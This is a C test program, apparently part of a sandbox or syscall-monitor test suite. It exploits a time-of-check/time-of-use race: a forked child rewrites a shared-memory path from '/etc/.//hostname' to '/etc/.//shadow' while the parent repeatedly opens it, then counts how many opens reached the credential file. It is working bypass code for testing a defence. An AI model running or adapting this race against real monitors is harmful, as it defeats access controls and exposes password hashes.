/* Attacker against skipped exit stops: no second thread, two processes. The path sits
 * in a MAP_SHARED page; a forked child (its own mm: no CLONE_VM) flips one aligned word
 * of it between "hostname" and "shadow\0\0" while the parent opens it. First the
 * parent opens the path `warm` times with the child idle (so the agent has seen it
 * harmless, /etc/hostname, many times), sleeps, then opens it `n` times while the
 * child flips. Each successful open is told by inode. Prints "shadow S hostname H"
 * for the flipping phase: the ground truth. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct shared {
    union {
        char s[24];
        uint64_t w[3];
    } path;
    volatile int go, stop;
};

int main(int argc, char **argv) {
    int warm = argc > 1 ? atoi(argv[1]) : 200, n = argc > 2 ? atoi(argv[2]) : 300;
    struct shared *sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (sh == MAP_FAILED) return 2;
    strcpy(sh->path.s, "/etc/.//hostname");
    struct stat shadow, host, st;
    if (stat("/etc/shadow", &shadow) || stat("/etc/hostname", &host)) return 2;
    pid_t child = fork();
    if (child == 0) {
        uint64_t h, s = 0;
        memcpy(&h, "hostname", 8);
        memcpy(&s, "shadow", 6);
        volatile uint64_t *word = &sh->path.w[1];
        while (!sh->go) ;
        while (!sh->stop) {
            *word = s;
            *word = h;
        }
        _exit(0);
    }
    char c;
    for (int i = 0; i < warm; i++) {
        int fd = open(sh->path.s, O_RDONLY);
        if (fd < 0 || read(fd, &c, 1) < 0) return 3;
        close(fd);
    }
    struct timespec pause = {0, 300 * 1000 * 1000};
    nanosleep(&pause, NULL);
    sh->go = 1;
    int s = 0, h = 0;
    /* at least n opens, and on until a flip landed (a loaded host may starve the child) */
    for (int i = 0; i < n || (s == 0 && i < 50 * n); i++) {
        int fd = open(sh->path.s, O_RDONLY);
        if (fd < 0) continue;
        if (fstat(fd, &st) == 0 && st.st_ino == shadow.st_ino && st.st_dev == shadow.st_dev) s++;
        else if (st.st_ino == host.st_ino && st.st_dev == host.st_dev) h++;
        if (read(fd, &c, 1) < 0) return 3;
        close(fd);
    }
    sh->stop = 1;
    waitpid(child, NULL, 0);
    printf("shadow %d hostname %d\n", s, h);
    return 0;
}
